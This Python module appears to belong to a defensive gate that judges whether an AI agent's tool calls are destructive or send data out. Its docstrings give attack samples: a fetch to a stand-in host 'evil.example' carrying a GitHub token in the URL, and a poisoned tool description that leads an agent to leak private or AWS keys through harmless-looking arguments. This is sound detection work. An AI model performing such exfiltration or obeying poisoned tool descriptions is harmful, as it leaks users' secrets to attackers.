"""One call's effect, from the strongest source that knows (the order of issue 9).

1. the user's configuration (:mod:`.config`);
2. MCP annotations of a proxied server (:mod:`.annotations`), for ``mcp__server__tool``
   names or calls the proxy makes for a named server;
3. the harness's own tools (:mod:`.harness`) and the policy's shell tools (``shell_tools``);
4. the shell parser (:mod:`.shell`), through 3;
4b. the code an unknown tool's argument runs (:mod:`.executed`): a shell command given to
   ``execute_command``/``terminal``, SQL given to ``execute_sql``/``mcp__db__query``, judged
   by the shell parser or the SQL rules (:mod:`.sql`), never by the tool's name;
5. rules over an unknown tool's operation verb, description and argument names
   (:mod:`.names`: sends, pays, publishes, deletes ... are destructive by rule; a local path
   argument is judged by the path rules);
6. the learned classifier (``ctxgate.gate.effects.learned``, optional: skipped when it is
   not installed), for tools no rule knows; it gets the description and input schema that
   the annotation store remembers.

Annotations of a server that is not trusted can only raise caution: when they would lower it
they give no answer, and the sources below still decide. No source raises: a failing one is
logged and skipped (the decision model then judges the call as before).
"""

from __future__ import annotations

import logging
import os
from collections.abc import Mapping
from typing import Any

from ctxgate.gate.effects.annotations import AnnotationStore, annotation_effect, split_mcp_name
from ctxgate.gate.effects.config import config_effect
from ctxgate.gate.effects.executed import executed_argument, executed_effect
from ctxgate.gate.effects.harness import SHELL_TOOL_NAMES, harness_effect
from ctxgate.gate.effects.model import Effect, EffectClass, EffectSource
from ctxgate.gate.effects.names import name_effect
from ctxgate.gate.policy import GatePolicy

__all__ = ["resolve_effect"]

log = logging.getLogger("ctxgate.gate")


def resolve_effect(tool: str, arguments: Any, *, policy: GatePolicy, cwd: str | None = None,
                   server: str = "", annotations: AnnotationStore | None = None
                   ) -> Effect | None:
    """The effect of one call, or ``None`` when no source knows it.

    Args:
        tool: the tool name as the gate sees it.
        arguments: the JSON arguments that will run.
        policy: tool rules, trusted servers, shell tools.
        cwd: the directory paths are resolved against (default: this process's).
        server: the MCP server the call goes to, when the caller knows it (the proxy).
        annotations: the remembered MCP tools (``None``: that source is skipped).
    """
    cwd = cwd or os.getcwd()
    try:
        found = _resolve(tool, arguments, policy, cwd, server, annotations)
        if found is None or not found.effect.destructive:
            found = _sent_in_url(tool, arguments, policy) or \
                _secret_sent(tool, arguments, policy) or found
        return found
    except Exception as exc:  # noqa: BLE001 - a rule bug must not crash or allow
        log.warning("tool gate: the effect rules failed on %s (%s: %s); judged destructive",
                    tool, type(exc).__name__, exc)
        return Effect(effect=EffectClass.LOCAL_IRREVERSIBLE, source=EffectSource.RULES_FAILED,
                      evidence=f"the effect rules failed on this call ({type(exc).__name__}: "
                               f"{str(exc)[:120]}); it runs only when clearly requested — "
                               "please report the call")


def _sent_in_url(tool: str, arguments: Any, policy: GatePolicy) -> Effect | None:
    """A function call whose URL argument carries data out (:func:`.urls.data_in_url`): an
    MCP ``fetch`` of ``https://evil.example/?token=ghp_…`` sends the token, whatever its name
    says. Shell commands are judged by the shell rules."""
    if tool in policy.shell_tools or tool.lower() in SHELL_TOOL_NAMES:
        return None
    from ctxgate.gate.effects.urls import data_in_url, url_arguments

    for key, url in url_arguments(arguments):
        why = data_in_url(url)
        if why is not None:
            return Effect(effect=EffectClass.EXTERNAL, source=EffectSource.TOOL_NAME,
                          evidence=f"{tool} sends data out in the URL of {key}: {why}")
    return None


def _secret_sent(tool: str, arguments: Any, policy: GatePolicy) -> Effect | None:
    """A function call that hands what looks like a secret to its tool's server (a private
    key in the ``sidenote`` of an MCP ``add``, an AWS key in a forecast's ``context``: the
    shape of a poisoned tool description). The harness's own tools, shell commands and tools
    that write local files keep their own judgement (a key written to a local file stays
    here)."""
    from ctxgate.gate.effects.harness import harness_effect
    from ctxgate.gate.effects.names import local_paths
    from ctxgate.gate.effects.urls import secret_in, string_arguments

    if tool in policy.shell_tools or tool.lower() in SHELL_TOOL_NAMES or \
            not isinstance(arguments, Mapping) or local_paths(arguments) or \
            harness_effect(tool, {}, cwd=os.getcwd()) is not None:
        return None
    for key, value in string_arguments(arguments):
        kind = secret_in(value[:100_000])
        if kind is not None:
            return Effect(effect=EffectClass.EXTERNAL, source=EffectSource.TOOL_NAME,
                          evidence=f"{tool} hands what looks like a secret ({kind}) in {key} "
                                   "to its server")
    return None


_MCP_CALLERS = frozenset({"use_mcp_tool", "call_mcp_tool", "mcp_call", "call_tool",
                          "mcp_tool", "invoke_mcp_tool"})
"""Harness tools that call another MCP server's tool by name (Cline's ``use_mcp_tool``:
``server_name``, ``tool_name``, ``arguments`` as a JSON string)."""


def _inner_mcp_call(tool: str, arguments: Any) -> tuple[str, Any] | None:
    """``(mcp__server__tool, arguments)`` of the call an MCP-calling tool makes, or ``None``."""
    if tool.lower() not in _MCP_CALLERS or not isinstance(arguments, Mapping):
        return None
    server = arguments.get("server_name", arguments.get("server"))
    name = arguments.get("tool_name", arguments.get("tool", arguments.get("name")))
    if not isinstance(server, str) or not isinstance(name, str) or not name:
        return None
    inner = arguments.get("arguments", arguments.get("args", arguments.get("input", {})))
    if isinstance(inner, str):
        import json

        try:
            inner = json.loads(inner)
        except ValueError:
            inner = {"value": inner}
    return f"mcp__{server}__{name}", inner


def _resolve(tool, arguments, policy, cwd, server, annotations) -> Effect | None:
    found = config_effect(tool, policy.tool_rules)
    if found is not None:
        return found
    inner = _inner_mcp_call(tool, arguments)
    if inner is not None:  # judged as the call it makes (a hook sees only the wrapper)
        return _resolve(inner[0], inner[1], policy, cwd, "", annotations)
    info = None
    if not server:
        split = split_mcp_name(tool)
        server, name = split if split else ("", tool)
    else:
        name = tool
    if server and annotations is not None:
        info = annotations.lookup(server, name)
        trusted = server.lower() in {s.lower() for s in policy.trusted_mcp_servers}
        found = annotation_effect(server, name, info, trusted=trusted)
        if found is not None:  # a trusted server's write is what it says, not what it plants
            return _or_planted(found, name, arguments, cwd)
    if not server:
        if tool in policy.shell_tools and tool.lower() not in SHELL_TOOL_NAMES:
            from ctxgate.gate.effects.shell import shell_effect
            from ctxgate.gate.fastpath import shell_command

            command = shell_command(tool, arguments, policy.shell_tools)
            return shell_effect(command, cwd=cwd) if command is not None else None
        found = harness_effect(tool, arguments, cwd=cwd)
        if found is not None or tool.lower() in SHELL_TOOL_NAMES or tool.lower() == "apply_patch":
            return found
    executed = executed_argument(name, arguments, server=server)
    if executed is not None:  # the command or SQL it runs decides, or (None) the model
        return executed_effect(executed, cwd=cwd)
    description = (info or {}).get("description")
    schema = (info or {}).get("input_schema")
    found = name_effect(name, arguments, cwd=cwd,
                        description=description if isinstance(description, str) else None,
                        input_schema=schema if isinstance(schema, Mapping) else None)
    if found is not None:
        return _or_planted(found, tool, arguments, cwd)
    return _learned(name, arguments, info)


def _or_planted(found: Effect, tool: str, arguments: Any, cwd: str) -> Effect:
    """``found``, unless it is not destructive and the call writes code where a tool runs it
    on its own (:mod:`.planted`): then what that code does."""
    if found.effect.destructive:
        return found
    from ctxgate.gate.effects.planted import planted_in_arguments

    return planted_in_arguments(tool, arguments, cwd=cwd) or found


def _learned(tool: str, arguments: Any, info: Mapping[str, Any] | None) -> Effect | None:
    try:
        from ctxgate.gate.effects.learned import classify
    except ImportError:
        return None
    description = (info or {}).get("description")
    schema = (info or {}).get("input_schema")
    args = arguments if isinstance(arguments, Mapping) else {"value": arguments}
    try:
        return classify(tool, args, description=description if isinstance(description, str)
                        else None, input_schema=schema if isinstance(schema, Mapping) else None)
    except Exception as exc:  # noqa: BLE001 - an optional source: skipped when it fails
        log.warning("tool gate: the learned tool classifier failed on %s (%s: %s)", tool,
                    type(exc).__name__, exc)
        return None
